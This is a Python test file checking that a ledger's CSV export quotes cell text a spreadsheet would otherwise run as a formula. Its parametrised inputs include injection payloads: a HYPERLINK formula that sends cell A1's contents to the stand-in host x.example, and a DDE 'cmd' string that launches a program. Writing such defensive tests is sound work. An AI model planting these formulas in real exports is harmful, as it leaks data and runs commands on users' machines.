"""CSV downloads: a recorder's text never becomes a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from ledger.projections.tables import ReportTable, spreadsheet_safe


def table_of(rows: list[dict[str, Any]]) -> list[list[str]]:
    table = ReportTable("t", 1, "00", "2026-01-01T00:00:00Z", ["cell"], rows)
    return list(csv.reader(io.StringIO(table.to_csv())))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-1.5",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return", "negative-looking-text"],
)
def test_text_that_a_spreadsheet_would_run_is_quoted(text: str) -> None:
    rows = table_of([{"cell": text}])
    assert rows[1] == ["'" + text, ""]


def test_a_list_of_names_written_as_text_is_quoted_too() -> None:
    assert table_of([{"cell": ["=1+1", "P-2"]}])[1][0] == "'=1+1 P-2"


def test_a_carriage_return_inside_a_cell_cannot_start_a_new_row() -> None:
    rows = table_of([{"cell": "ok\r=1+1"}, {"cell": "next"}])
    assert [row[0] for row in rows] == ["cell", "ok\r=1+1", "next"]


@pytest.mark.parametrize(
    ("number", "text"), [(-1.5, "-1.5"), (-3, "-3"), (0.25, "0.25"), (-1e-07, "-1e-07")]
)
def test_numbers_stay_numbers_even_when_negative(number: float, text: str) -> None:
    assert table_of([{"cell": number}])[1][0] == text


@pytest.mark.parametrize(
    "text", ["Lyari Front", "FIR-12", "suppressed (3/4)", "", "a=b", "'quoted"]
)
def test_ordinary_text_is_written_as_it_is(text: str) -> None:
    assert spreadsheet_safe(text) == text


def test_booleans_are_words_not_numbers() -> None:
    assert spreadsheet_safe(True) == "yes"
    assert spreadsheet_safe(None) == ""
